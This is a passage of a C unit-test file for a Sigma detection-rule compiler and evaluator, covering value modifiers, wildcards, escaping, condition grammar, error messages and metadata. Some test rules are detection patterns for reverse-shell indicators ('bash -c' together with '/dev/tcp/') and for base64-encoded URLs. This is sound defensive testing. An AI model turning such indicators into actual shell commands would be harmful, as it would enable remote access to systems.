/*
 * test_sigma.c - Sigma compiler and evaluator: tables of (rule, event,
 * expected match) for every modifier, wildcards and escaping, the condition
 * grammar, rejected rules with their exact message and position, metadata,
 * x_vigie tests, exceptions, explain, captures, regex limits, logsource
 * routing, and a load of the SigmaHQ linux/web rules from the shared corpus.
 */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "corpus.h"
#include "detectors/sigma.h"

/* ---- helpers ---- */

#define MAXR 8
#define MAXD 8

typedef struct loaded {
    vg_sigma_rule *r[MAXR];
    size_t n;
    char err[MAXD][512]; /* "file:line:col: msg" */
    vg_err code[MAXD];
    size_t nerr;
    char warn[MAXD][512];
    size_t nwarn;
} loaded;

static void on_rule(void *ud, vg_sigma_rule *r)
{
    loaded *l = ud;
    if (l->n < MAXR)
        l->r[l->n++] = r;
    else
        vg_sigma_rule_destroy(r);
}

static void on_diag(void *ud, const vg_diag *d)
{
    loaded *l = ud;
    if (d->is_warning) {
        if (l->nwarn < MAXD)
            snprintf(l->warn[l->nwarn++], 512, "%s:%d:%d: %s", d->file, d->line, d->col, d->msg);
        return;
    }
    if (l->nerr < MAXD) {
        l->code[l->nerr] = d->code;
        snprintf(l->err[l->nerr++], 512, "%s:%d:%d: %s", d->file, d->line, d->col, d->msg);
    }
}

static void unload(loaded *l)
{
    for (size_t i = 0; i < l->n; i++)
        vg_sigma_rule_destroy(l->r[i]);
    l->n = 0;
}

static vg_err load(loaded *l, const char *yaml, const vg_sigma_opts *o)
{
    memset(l, 0, sizeof *l);
    return vg_sigma_load_buffer(yaml, strlen(yaml), "t.yml", o, on_rule, on_diag, l);
}

/* A rule with the given detection body (selections indented by 4). */
static char *rule_with(const char *body)
{
    char *s = NULL;
    cr_assert(asprintf(&s, "title: t\nlogsource:\n    product: linux\ndetection:\n%s", body) > 0);
    return s;
}

static vg_sigma_rule *load1(loaded *l, const char *yaml)
{
    load(l, yaml, NULL);
    cr_assert_eq(l->n, 1, "rule not loaded: %s\n%s", l->nerr ? l->err[0] : "(no diag)", yaml);
    return l->r[0];
}

/* Fields as "name=value" strings (value after the first '='); NULL-terminated. */
static void build(vg_event *ev, const char *raw, const char *const *kv)
{
    vg_event_clear(ev);
    ev->raw = raw ? (vg_str){raw, strlen(raw)} : VG_STR_NULL;
    for (size_t i = 0; kv && kv[i]; i++) {
        const char *eq = strchr(kv[i], '=');
        cr_assert(eq);
        vg_event_set(ev, (vg_str){kv[i], (size_t)(eq - kv[i])}, (vg_str){eq + 1, strlen(eq + 1)});
    }
}

static bool eval(const vg_sigma_rule *r, vg_event *ev, vg_arena *arena)
{
    vg_sigma_scratch *s = vg_sigma_scratch_create();
    cr_assert(s);
    vg_sigma_scratch_next_event(s);
    bool m = vg_sigma_match(r, ev, s, arena);
    vg_sigma_scratch_destroy(s);
    return m;
}

/* ---- values: one selection `sel` on field f (or keywords on raw) ---- */

typedef struct vcase {
    const char *sel;   /* the selection, indented by 4 */
    const char *value; /* value of field f, or raw for keywords; NULL = absent */
    bool expect;
} vcase;

static const vcase value_cases[] = {
    /* plain values: exact, case-insensitive, numbers and booleans as text */
    {"    sel:\n        f: foo\n", "foo", true},
    {"    sel:\n        f: foo\n", "FoO", true},
    {"    sel:\n        f: foo\n", "foox", false},
    {"    sel:\n        f: foo\n", "xfoo", false},
    {"    sel:\n        f: foo\n", NULL, false},
    {"    sel:\n        f: 4624\n", "4624", true},
    {"    sel:\n        f: 1.50\n", "1.50", true},
    {"    sel:\n        f: 1.50\n", "1.5", false},
    {"    sel:\n        f: true\n", "true", true},
    {"    sel:\n        f: [a, b]\n", "B", true},
    {"    sel:\n        f: [a, b]\n", "c", false},
    /* contains / startswith / endswith */
    {"    sel:\n        f|contains: oO\n", "fOOd", true},
    {"    sel:\n        f|contains: oo\n", "fod", false},
    {"    sel:\n        f|startswith: /usr/\n", "/USR/bin", true},
    {"    sel:\n        f|startswith: /usr/\n", "/bin/usr/", false},
    {"    sel:\n        f|endswith: '/sh'\n", "/bin/sh", true},
    {"    sel:\n        f|endswith: '/sh'\n", "/bin/bash", false},
    {"    sel:\n        f|endswith: '/sh'\n", "sh", false},
    {"    sel:\n        f|contains: ''\n", "anything", true},
    /* all */
    {"    sel:\n        f|contains|all: [a, b]\n", "xAxB", true},
    {"    sel:\n        f|contains|all: [a, b]\n", "xa", false},
    /* wildcards (the specification's examples) */
    {"    sel:\n        f: 'prog?.exe'\n", "progA.exe", true},
    {"    sel:\n        f: 'prog?.exe'\n", "prog.exe", false},
    {"    sel:\n        f: 'prog?.exe'\n", "progAB.exe", false},
    {"    sel:\n        f: 'antivirus_V*.exe'\n", "antivirus_V21.2.1.exe", true},
    {"    sel:\n        f: 'antivirus_V*.exe'\n", "antivirus_V1.exe.bak", false},
    {"    sel:\n        f: 'adm*'\n", "Administrator", true},
    {"    sel:\n        f: '*\\cmd.exe'\n", "C:\\Windows\\CMD.EXE", true},
    {"    sel:\n        f: 'a*b*c'\n", "axxbyyc", true},
    {"    sel:\n        f: 'a*b*c'\n", "axxbyyd", false},
    {"    sel:\n        f: '*'\n", "", true},
    {"    sel:\n        f: '*'\n", NULL, false},
    {"    sel:\n        f|contains: 'a?c'\n", "xxABCxx", true},
    {"    sel:\n        f: 'caf?'\n", "caf\xc3\xa9", true},  /* ? is one UTF-8 character */
    {"    sel:\n        f: 'caf?'\n", "caf\xff\xfe", false}, /* ... or one byte */
    {"    sel:\n        f: '?'\n", "\xe2\x80\x93", true},
    /* escaping: \* and \? literal, \\ before a wildcard, lone backslash kept */
    {"    sel:\n        f: 'a\\*b'\n", "a*b", true},
    {"    sel:\n        f: 'a\\*b'\n", "axb", false},
    {"    sel:\n        f: 'a\\?b'\n", "a?b", true},
    {"    sel:\n        f: 'a\\?b'\n", "axb", false},
    {"    sel:\n        f: 'C:\\Windows\\*'\n", "C:\\Windows*", true}, /* \* is a star */
    {"    sel:\n        f: 'C:\\Windows\\*'\n", "C:\\Windows\\*", false},
    {"    sel:\n        f: 'C:\\Windows\\*'\n", "C:\\Windows\\x", false},
    {"    sel:\n        f: 'C:\\\\Windows\\\\*'\n", "C:\\Windows\\system32", true},
    {"    sel:\n        f: 'a\\\\\\*'\n", "a\\*", true},
    {"    sel:\n        f: 'a\\\\\\*'\n", "a\\x", false},
    {"    sel:\n        f: 'a\\\\\\\\b'\n", "a\\\\b", true},
    {"    sel:\n        f: 'a\\\\\\\\b'\n", "a\\b", false},
    {"    sel:\n        f: 'a\\\\\\b'\n", "a\\\\b", true},
    {"    sel:\n        f: 'a\\b'\n", "a\\b", true},
    {"    sel:\n        f: 'a\\\\b'\n", "a\\b", true},
    {"    sel:\n        f: 'a\\'\n", "a\\", true},
    /* cased */
    {"    sel:\n        f|cased: Foo\n", "Foo", true},
    {"    sel:\n        f|cased: Foo\n", "foo", false},
    {"    sel:\n        f|contains|cased: Oo\n", "fOo", true},
    {"    sel:\n        f|contains|cased: Oo\n", "foo", false},
    {"    sel:\n        f|cased: 'F*o'\n", "Fxxo", true},
    {"    sel:\n        f|cased: 'F*o'\n", "fxxo", false},
    /* non-ASCII bytes are compared as they are (ASCII case folding only) */
    {"    sel:\n        f: 'é'\n", "é", true},
    {"    sel:\n        f: 'é'\n", "É", false},
    /* re and its sub-modifiers */
    {"    sel:\n        f|re: '^ab+c$'\n", "abbbc", true},
    {"    sel:\n        f|re: '^ab+c$'\n", "ABC", false},
    {"    sel:\n        f|re|i: '^abc$'\n", "ABC", true},
    {"    sel:\n        f|re: '^b$'\n", "a\nb", false},
    {"    sel:\n        f|re|m: '^b$'\n", "a\nb", true},
    {"    sel:\n        f|re: 'a.b'\n", "a\nb", false},
    {"    sel:\n        f|re|s: 'a.b'\n", "a\nb", true},
    {"    sel:\n        f|re: '\\s-[FTd]\\s'\n", "ssh -T host", true},
    {"    sel:\n        f|re: '\\s-[FTd]\\s'\n", "ssh -t host", false},
    /* exists */
    {"    sel:\n        f|exists: true\n", "", true},
    {"    sel:\n        f|exists: true\n", NULL, false},
    {"    sel:\n        f|exists: false\n", NULL, true},
    {"    sel:\n        f|exists: false\n", "x", false},
    /* null and empty */
    {"    sel:\n        f: null\n", NULL, true},
    {"    sel:\n        f: null\n", "", true},
    {"    sel:\n        f: null\n", "x", false},
    {"    sel:\n        f: ~\n", NULL, true},
    {"    sel:\n        f:\n", NULL, true},
    {"    sel:\n        f: ''\n", "", true},
    {"    sel:\n        f: ''\n", "x", false},
    {"    sel:\n        f: ''\n", NULL, false},
    {"    sel:\n        f: 'null'\n", "null", true},
    /* windash */
    {"    sel:\n        f|windash|contains: ' -exec'\n", "find / -exec", true},
    {"    sel:\n        f|windash|contains: ' -exec'\n", "find exec", false},
    {"    sel:\n        f|windash|contains: ' -exec'\n", "find / /exec", true},
    {"    sel:\n        f|windash|contains: ' -exec'\n",
     "find / \xe2\x80\x93"
     "exec",
     true},
    {"    sel:\n        f|windash|contains: ' -exec'\n",
     "find / \xe2\x80\x95"
     "exec",
     true},
    {"    sel:\n        f|windash: 'a-b'\n", "a/b", false}, /* not at a word start */
    /* base64, base64offset, utf16 */
    {"    sel:\n        f|base64: 'http'\n", "aHR0cA==", true},
    {"    sel:\n        f|base64|contains: 'http'\n", "xxaHR0cA==yy", true},
    {"    sel:\n        f|base64offset|contains: 'http://'\n", "..aHR0cDovL..", true},
    {"    sel:\n        f|base64offset|contains: 'http://'\n", "..h0dHA6Ly..", true},
    {"    sel:\n        f|base64offset|contains: 'http://'\n", "..odHRwOi8v..", true},
    {"    sel:\n        f|base64offset|contains: 'http://'\n", "..aHR0cHM6..", false},
    {"    sel:\n        f|base64offset|contains|all: ['http:', 'evil']\n",
     "aHR0cDo= ZXZpbA==", true},
    {"    sel:\n        f|utf16le|base64: 'ab'\n", "YQBiAA==", true},
    {"    sel:\n        f|wide|base64: 'ab'\n", "YQBiAA==", true},
    {"    sel:\n        f|utf16be|base64: 'ab'\n", "AGEAYg==", true},
    {"    sel:\n        f|utf16|base64: 'a'\n", "//5hAA==", true},
    /* cidr */
    {"    sel:\n        f|cidr: 10.0.0.0/8\n", "10.1.2.3", true},
    {"    sel:\n        f|cidr: 10.0.0.0/8\n", "11.0.0.1", false},
    {"    sel:\n        f|cidr: 10.0.0.0/8\n", "::ffff:10.0.0.1", true},
    {"    sel:\n        f|cidr: 10.0.0.0/8\n", "garbage", false},
    {"    sel:\n        f|cidr: 192.168.1.128/25\n", "192.168.1.200", true},
    {"    sel:\n        f|cidr: 192.168.1.128/25\n", "192.168.1.100", false},
    {"    sel:\n        f|cidr: [127.0.0.0/8, '::1/128']\n", "::1", true},
    {"    sel:\n        f|cidr: 'fe80::/10'\n", "fe80::1", true},
    {"    sel:\n        f|cidr: 'fe80::/10'\n", "fec0::1", false},
    {"    sel:\n        f|cidr: 0.0.0.0/0\n", "1.2.3.4", true},
    /* numbers */
    {"    sel:\n        f|gt: 10\n", "11", true},
    {"    sel:\n        f|gt: 10\n", "10", false},
    {"    sel:\n        f|gt: 10\n", "abc", false},
    {"    sel:\n        f|gte: 10\n", "10", true},
    {"    sel:\n        f|lt: 1.5\n", "1.4", true},
    {"    sel:\n        f|lt: 1.5\n", "1.5", false},
    {"    sel:\n        f|lte: -3\n", "-3", true},
    /* neq */
    {"    sel:\n        f|neq: foo\n", "bar", true},
    {"    sel:\n        f|neq: foo\n", "FOO", false},
    {"    sel:\n        f|neq: foo\n", NULL, false},
    {"    sel:\n        f|neq: [foo, bar]\n", "bar", false},
    /* keywords: whole record, case-insensitive, implicit wildcards */
    {"    sel:\n        - evil\n        - 'bad*thing'\n", "an EVIL line", true},
    {"    sel:\n        - evil\n        - 'bad*thing'\n", "BAD big THING here", true},
    {"    sel:\n        - evil\n        - 'bad*thing'\n", "good", false},
    {"    sel: evil\n", "so EVIL", true},
    {"    sel:\n        '|all':\n            - 'bash -c'\n            - '/dev/tcp/'\n",
     "x bash -c y /dev/tcp/1", true},
    {"    sel:\n        '|all':\n            - 'bash -c'\n            - '/dev/tcp/'\n",
     "x bash -c y", false},
    {"    sel:\n        '|re': '^Accepted (password|publickey)'\n", "Accepted password", true},
    {"    sel:\n        '|re': '^Accepted (password|publickey)'\n", "x Accepted password", false},
    /* lists of maps are OR-ed; maps are AND-ed */
    {"    sel:\n        - f: a\n        - f: b\n", "b", true},
    {"    sel:\n        f|startswith: a\n        f|endswith: z\n", "abz", true},
    {"    sel:\n        f|startswith: a\n        f|endswith: z\n", "abc", false},
};

Test(sigma, value_table)
{
    for (size_t i = 0; i < sizeof value_cases / sizeof value_cases[0]; i++) {
        const vcase *c = &value_cases[i];
        char body[1024];
        snprintf(body, sizeof body, "%s    condition: sel\n", c->sel);
        char *yaml = rule_with(body);
        loaded l;
        vg_sigma_rule *r = load1(&l, yaml);
        vg_event ev;
        char buf[256];
        bool keyword = !strstr(c->sel, " f:") && !strstr(c->sel, " f|");
        if (keyword) {
            build(&ev, c->value, NULL);
        } else {
            const char *kv[2] = {NULL, NULL};
            if (c->value) {
                snprintf(buf, sizeof buf, "f=%s", c->value);
                kv[0] = buf;
            }
            build(&ev, "raw line", kv);
        }
        cr_expect_eq(eval(r, &ev, NULL), c->expect, "case %zu: %s on '%s': expected %d", i, c->sel,
                     c->value ? c->value : "(absent)", c->expect);
        unload(&l);
        free(yaml);
    }
}

Test(sigma, values_with_nul_and_invalid_utf8)
{
    loaded l;
    char *yaml = rule_with("    sel:\n        f|contains: 'evil'\n        g: 'a*z'\n"
                           "    condition: sel\n");
    vg_sigma_rule *r = load1(&l, yaml);
    static const char f[] = "\0\xff\xfe EVIL \0";
    static const char g[] = "a\0\x80z";
    vg_event ev;
    build(&ev, NULL, NULL);
    vg_event_set(&ev, VG_STR("f"), (vg_str){f, sizeof f - 1});
    vg_event_set(&ev, VG_STR("g"), (vg_str){g, sizeof g - 1});
    cr_assert(eval(r, &ev, NULL));
    unload(&l);
    free(yaml);
}

Test(sigma, fieldref)
{
    loaded l;
    char *yaml = rule_with("    sel:\n        f|fieldref: g\n    condition: sel\n");
    vg_sigma_rule *r = load1(&l, yaml);
    vg_event ev;
    build(&ev, NULL, (const char *const[]){"f=Root", "g=root", NULL});
    cr_assert(eval(r, &ev, NULL));
    build(&ev, NULL, (const char *const[]){"f=root", "g=admin", NULL});
    cr_assert_not(eval(r, &ev, NULL));
    build(&ev, NULL, (const char *const[]){"f=root", NULL});
    cr_assert_not(eval(r, &ev, NULL));
    unload(&l);
    free(yaml);
}

/* The lowercase cache is per event: the scratch must see new bytes after next_event. */
Test(sigma, scratch_cache_per_event)
{
    loaded l;
    char *yaml = rule_with("    sel:\n        f|contains: evil\n    condition: sel\n");
    vg_sigma_rule *r = load1(&l, yaml);
    vg_sigma_scratch *s = vg_sigma_scratch_create();
    char buf[16];
    vg_event ev;
    build(&ev, NULL, NULL);
    strcpy(buf, "an EVIL x");
    vg_event_set(&ev, VG_STR("f"), (vg_str){buf, strlen(buf)});
    vg_sigma_scratch_next_event(s);
    cr_assert(vg_sigma_match(r, &ev, s, NULL));
    strcpy(buf, "an good x");
    vg_sigma_scratch_next_event(s);
    cr_assert_not(vg_sigma_match(r, &ev, s, NULL));
    vg_sigma_scratch_destroy(s);
    unload(&l);
    free(yaml);
}

/* ---- condition grammar ---- */

#define COND_FN(name, expr)                                                                        \
    static bool name(bool a, bool b, bool c, bool d)                                               \
    {                                                                                              \
        (void)a, (void)b, (void)c, (void)d;                                                        \
        return (expr);                                                                             \
    }
COND_FN(f_a, a)
COND_FN(f_and, a &&b)
COND_FN(f_prec, a || (b && c))
COND_FN(f_prec2, (a && b) || c)
COND_FN(f_notand, !a && b)
COND_FN(f_notpar, !(a && b))
COND_FN(f_par, (a || b) && c)
COND_FN(f_one_them, a || b || c)
COND_FN(f_all_them, a &&b &&c)
COND_FN(f_d, d)
COND_FN(f_all, a &&b &&c &&d)
COND_FN(f_a_not_d, a && !d)
COND_FN(f_or3, a || b || c)
COND_FN(f_not_or, !a || b)
COND_FN(f_sel_pat, a || b)
COND_FN(f_all_pat, a &&b)
COND_FN(f_nested, a && (b || (c && !d)))

static const struct {
    const char *cond;
    bool (*f)(bool, bool, bool, bool);
} cond_cases[] = {
    {"sel_a", f_a},
    {"sel_a and sel_b", f_and},
    {"sel_a or sel_b and sel_c", f_prec},
    {"sel_a and sel_b or sel_c", f_prec2},
    {"not sel_a and sel_b", f_notand},
    {"not (sel_a and sel_b)", f_notpar},
    {"(sel_a or sel_b) and sel_c", f_par},
    {"1 of them", f_one_them},
    {"any of them", f_one_them},
    {"all of them", f_all_them},
    {"1 of _*", f_d},
    {"all of *", f_all},
    {"sel_a and not 1 of _*", f_a_not_d},
    {"sel_a AND sel_b", f_and},
    {"not not sel_a", f_a},
    {"sel_a or sel_b or sel_c", f_or3},
    {"not sel_a or sel_b", f_not_or},
    {"1 of sel_*", f_one_them},
    {"all of sel_*", f_all_them},
    {"1 of sel_a*", f_a},
    {"sel_a and (sel_b or (sel_c and not _d))", f_nested},
    {"((sel_a))", f_a},
    {"  sel_a\n and\tsel_b ", f_and},
};

Test(sigma, condition_table)
{
    (void)f_sel_pat;
    (void)f_all_pat;
    for (size_t i = 0; i < sizeof cond_cases / sizeof cond_cases[0]; i++) {
        char body[1024];
        char esc[256];
        /* double-quoted YAML so \n and \t work */
        size_t k = 0;
        for (const char *p = cond_cases[i].cond; *p && k < sizeof esc - 3; p++) {
            if (*p == '\n') {
                esc[k++] = '\\';
                esc[k++] = 'n';
            } else if (*p == '\t') {
                esc[k++] = '\\';
                esc[k++] = 't';
            } else {
                esc[k++] = *p;
            }
        }
        esc[k] = '\0';
        snprintf(body, sizeof body,
                 "    sel_a: {A: y}\n    sel_b: {B: y}\n    sel_c: {C: y}\n    _d: {D: y}\n"
                 "    condition: \"%s\"\n",
                 esc);
        char *yaml = rule_with(body);
        loaded l;
        load(&l, yaml, NULL);
        cr_assert_eq(l.n, 1, "condition '%s': %s", cond_cases[i].cond, l.nerr ? l.err[0] : "");
        for (int m = 0; m < 16; m++) {
            const char *kv[5];
            int n = 0;
            if (m & 1)
                kv[n++] = "A=y";
            if (m & 2)
                kv[n++] = "B=y";
            if (m & 4)
                kv[n++] = "C=y";
            if (m & 8)
                kv[n++] = "D=y";
            kv[n] = NULL;
            vg_event ev;
            build(&ev, "x", kv);
            bool want = cond_cases[i].f(m & 1, m & 2, m & 4, m & 8);
            cr_expect_eq(eval(l.r[0], &ev, NULL), want, "condition '%s' with a=%d b=%d c=%d d=%d",
                         cond_cases[i].cond, m & 1, !!(m & 2), !!(m & 4), !!(m & 8));
        }
        unload(&l);
        free(yaml);
    }
}

Test(sigma, condition_list_is_or)
{
    loaded l;
    char *yaml =
        rule_with("    a: {A: y}\n    b: {B: y}\n    condition:\n        - a\n        - b\n");
    vg_sigma_rule *r = load1(&l, yaml);
    vg_event ev;
    build(&ev, "x", (const char *const[]){"B=y", NULL});
    cr_assert(eval(r, &ev, NULL));
    build(&ev, "x", (const char *const[]){"C=y", NULL});
    cr_assert_not(eval(r, &ev, NULL));
    unload(&l);
    free(yaml);
}

Test(sigma, unused_selection_warns)
{
    loaded l;
    char *yaml = rule_with("    a: {A: y}\n    b: {B: y}\n    condition: a\n");
    load1(&l, yaml);
    cr_assert_eq(l.nwarn, 1);
    cr_assert_str_eq(l.warn[0], "t.yml:6:5: selection 'b' is not used by the condition");
    unload(&l);
    free(yaml);
}

/* ---- rejections: exact text and position ---- */

static const struct {
    const char *yaml;
    vg_err code;
    const char *msg;
} error_cases[] = {
    {"title: t\ndetection:\n    sel:\n        f|foo: x\n    condition: sel\n", VG_EUNSUPPORTED,
     "t.yml:4:11: unknown modifier 'foo'"},
    {"title: t\ndetection:\n    sel:\n        f|contains|expand: '%x%'\n    condition: sel\n",
     VG_EUNSUPPORTED, "t.yml:4:29: placeholder %x% is not defined (configure rules.placeholders)"},
    {"title: t\ndetection:\n    sel:\n        'f|foo': x\n    condition: sel\n", VG_EUNSUPPORTED,
     "t.yml:4:12: unknown modifier 'foo'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel and sel2\n", VG_ERULE,
     "t.yml:5:24: condition references undefined selection 'sel2'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: 'sel and sel2'\n", VG_ERULE,
     "t.yml:5:25: condition references undefined selection 'sel2'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel and (sel\n", VG_ERULE,
     "t.yml:5:28: expected ')'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel)\n", VG_ERULE,
     "t.yml:5:19: unbalanced ')'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel sel\n", VG_ERULE,
     "t.yml:5:20: expected 'and' or 'or' before 'sel'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel and\n", VG_ERULE,
     "t.yml:5:23: unexpected end of condition"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: 1 of filter*\n", VG_ERULE,
     "t.yml:5:21: 'filter*' matches no selection"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: 1 of se?\n", VG_ERULE,
     "t.yml:5:21: 'se?' matches no selection"}, /* only '*' is a pattern character */
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel*\n", VG_ERULE,
     "t.yml:5:16: pattern 'sel*' outside '1 of' / 'all of'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel | count() > 5\n",
     VG_EUNSUPPORTED, "t.yml:5:20: aggregation in the condition ('| ...') is not supported"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: ''\n", VG_ERULE,
     "t.yml:5:17: empty condition"},
    {"title: t\ndetection:\n    sel:\n        f: x\n", VG_ERULE,
     "t.yml:3:5: missing 'condition' in 'detection'"},
    {"detection:\n    sel:\n        f: x\n    condition: sel\n", VG_ERULE,
     "t.yml:1:1: missing required key 'title'"},
    {"title: t\nlevel: high\n", VG_ERULE, "t.yml:1:1: missing required key 'detection'"},
    {"title: t\nlevel: severe\ndetection:\n    sel:\n        f: x\n    condition: sel\n", VG_ERULE,
     "t.yml:2:8: unknown level 'severe' (informational, low, medium, high, critical)"},
    {"title: t\ndetection:\n    sel:\n        f|re: 'a(b'\n    condition: sel\n", VG_ERULE,
     "t.yml:4:16: invalid regular expression: missing closing parenthesis at offset 3"},
    {"title: t\ndetection:\n    sel:\n        f:\n            - a\n            - null\n"
     "    condition: sel\n",
     VG_ERULE, "t.yml:6:15: null cannot be part of a list of values or modified"},
    {"title: t\ndetection:\n    sel:\n        f|exists: maybe\n    condition: sel\n", VG_ERULE,
     "t.yml:4:19: 'exists' takes true or false, not 'maybe'"},
    {"title: t\ndetection:\n    sel:\n        f|cidr: 10.0.0.0/33\n    condition: sel\n", VG_ERULE,
     "t.yml:4:17: invalid CIDR network '10.0.0.0/33'"},
    {"title: t\ndetection:\n    sel:\n        f|gt: ten\n    condition: sel\n", VG_ERULE,
     "t.yml:4:15: not a number: 'ten'"},
    {"title: t\ndetection:\n    sel:\n        f|re|contains: x\n    condition: sel\n", VG_ERULE,
     "t.yml:4:14: modifier 'contains' conflicts with an earlier modifier"},
    {"title: t\ndetection:\n    sel:\n        f|i: x\n    condition: sel\n", VG_ERULE,
     "t.yml:4:11: modifier 'i' applies only after 're'"},
    {"title: t\ndetection:\n    sel:\n        f|base64: 'a*'\n    condition: sel\n", VG_ERULE,
     "t.yml:4:20: wildcards cannot be base64-encoded"},
    {"title: t\ndetection:\n    sel:\n        f: {a: b}\n    condition: sel\n", VG_ERULE,
     "t.yml:4:12: expected a value or a list of values"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    sel:\n        g: y\n    condition: sel\n",
     VG_ERULE, "t.yml:5:5: duplicate selection 'sel'"},
    {"title: t\ntitle: u\n", VG_ERULE, "t.yml:2:1: duplicate key 'title'"},
    {"title: t\ncorrelation:\n    type: event_count\n", VG_EUNSUPPORTED,
     "t.yml:2:1: correlation rules are not supported"},
    {"title: t\naction: global\n", VG_EUNSUPPORTED,
     "t.yml:2:1: rule collections ('action: global') are not supported"},
    {"- a\n- b\n", VG_ERULE, "t.yml:1:1: a rule must be a mapping"},
    {"title: [a]\n", VG_ERULE, "t.yml:1:8: 'title' must be a string"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel\nx_vigie:\n    test: []\n",
     VG_ERULE, "t.yml:7:5: x_vigie: unknown key 'test'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel\nx_vigie:\n    tests:\n"
     "        - line: abc\n",
     VG_ERULE, "t.yml:8:11: x_vigie.tests: missing 'match'"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel\nx_vigie:\n    tests:\n"
     "        - line: abc\n          match: perhaps\n",
     VG_ERULE, "t.yml:9:18: x_vigie.tests: 'match' must be true or false"},
    {"title: t\ndetection:\n    sel:\n        f: x\n    condition: sel\nx_vigie:\n    tests:\n"
     "        - line: abc\n          match: true\n          fields: [a]\n",
     VG_ERULE, "t.yml:10:19: x_vigie.tests: 'fields' must be a mapping of field: value"},
    {"title: t\ndetection: [\n", VG_EPARSE,
     "t.yml:3:1: invalid YAML: did not find expected node content while parsing a flow node"},
};

Test(sigma, error_table)
{
    for (size_t i = 0; i < sizeof error_cases / sizeof error_cases[0]; i++) {
        loaded l;
        load(&l, error_cases[i].yaml, NULL);
        cr_expect_eq(l.n, 0, "case %zu loaded", i);
        cr_expect_eq(l.nerr, 1, "case %zu: %zu errors", i, l.nerr);
        if (l.nerr) {
            cr_expect_str_eq(l.err[0], error_cases[i].msg, "case %zu", i);
            cr_expect_eq(l.code[0], error_cases[i].code, "case %zu: code %d", i, l.code[0]);
        }
        unload(&l);
    }
}

Test(sigma, deep_and_long_conditions_are_bounded)
{
    char cond[8192];
    size_t k = 0;
    for (int i = 0; i < 100; i++)
        k += (size_t)sprintf(cond + k, "(");
    k += (size_t)sprintf(cond + k, "sel");
    for (int i = 0; i < 100; i++)
        k += (size_t)sprintf(cond + k, ")");
    char body[9000];
    snprintf(body, sizeof body, "    sel: {f: x}\n    condition: %s\n", cond);
    char *yaml = rule_with(body);
    loaded l;
    load(&l, yaml, NULL);
    cr_assert_eq(l.n, 0);
    cr_assert(strstr(l.err[0], "nested too deeply"), "%s", l.err[0]);
    free(yaml);
    unload(&l);

    k = 0;
    k += (size_t)sprintf(cond + k, "sel");
    for (int i = 0; i < 500; i++)
        k += (size_t)sprintf(cond + k, " or not sel");
    snprintf(body, sizeof body, "    sel: {f: x}\n    condition: %s\n", cond);
    yaml = rule_with(body);
    vg_sigma_rule *r = load1(&l, yaml);
    vg_event ev;
    build(&ev, "x", NULL);
    cr_assert(eval(r, &ev, NULL));
    free(yaml);
    unload(&l);
}

Test(sigma, alias_bomb_is_bounded)
{
    const char *yaml = "title: t\ndetection:\n"
                       "    sel:\n        f: &a [x, x, x, x, x, x, x, x, x, x, x, x, x, x, x, x]\n"
                       "        g: &b [*a, *a]\n"
                       "    condition: sel\n";
    loaded l;
    load(&l, yaml, NULL);
    cr_assert_eq(l.n, 0); /* nested lists are not values */
    unload(&l);
}

/* ---- metadata, documents, tests ---- */

Test(sigma, metadata)
{
    const char *yaml = "title: SSH brute force\n"
                       "id: 11111111-2222-3333-4444-555555555555\n"
                       "status: test\n"
                       "description: many failures\n"
                       "author: me\n"
                       "date: 2024-01-02\n"
                       "modified: 2024-03-04\n"
                       "tags:\n    - attack.t1110\n    - attack.credential_access\n"
                       "references: https://example.org\n"
                       "falsepositives:\n    - admins\n"
                       "logsource:\n    product: linux\n    service: sshd\n    definition: x\n"
                       "custom_key: {anything: [1, 2]}\n"
                       "level: high\n"
                       "detection:\n    sel: {f: x}\n    condition: sel\n";
    loaded l;
    vg_sigma_rule *r = load1(&l, yaml);
    vg_rule_meta *m = vg_sigma_meta(r);
    cr_assert_str_eq(m->id, "11111111-2222-3333-4444-555555555555");
    cr_assert_str_eq(m->title, "SSH brute force");
    cr_assert_str_eq(m->status, "test");
    cr_assert_str_eq(m->description, "many failures");
    cr_assert_str_eq(m->author, "me");
    cr_assert_str_eq(m->level, "high");
    cr_assert_eq(m->level_rank, 3);
    cr_assert_eq(m->tags.n, 2);
    cr_assert_str_eq(m->tags.v[1], "attack.credential_access");
    cr_assert_eq(m->references.n, 1);
    cr_assert_eq(m->falsepositives.n, 1);
    cr_assert_str_eq(m->ruleset, "sigma");
    cr_assert_str_eq(m->ruleset_version, "2024-03-04");
    cr_assert_str_eq(m->logsource.product, "linux");
    cr_assert_str_eq(m->logsource.service, "sshd");
    cr_assert_null(m->logsource.category);
    cr_assert_str_eq(m->file, "t.yml");
    cr_assert_eq(m->line, 1);
    size_t nt;
    vg_sigma_tests(r, &nt);
    cr_assert_eq(nt, 0);
    unload(&l);
}

Test(sigma, metadata_defaults)
{
    const char *yaml = "# comment\n\ntitle: No id\ndate: 2020-01-01\n"
                       "detection:\n    sel: {f: x}\n    condition: sel\n";
    loaded l;
    vg_sigma_rule *r = load1(&l, yaml);
    vg_rule_meta *m = vg_sigma_meta(r);
    cr_assert_str_eq(m->id, "t.yml:No id");
    cr_assert_str_eq(m->level, "medium");
    cr_assert_eq(m->level_rank, 2);
    cr_assert_str_eq(m->ruleset_version, "2020-01-01");
    cr_assert_eq(m->line, 3);
    cr_assert_null(m->logsource.product);
    unload(&l);
}

Test(sigma, several_documents)
{
    const char *yaml = "title: one\ndetection:\n    sel: {f: x}\n    condition: sel\n"
                       "---\n"
                       "title: two\ndetection:\n    sel: {f: x}\n    condition: nope\n"
                       "---\n"
                       "title: three\nlevel: low\ndetection:\n    sel: {f: x}\n    condition: sel\n"
                       "---\n";
    loaded l;
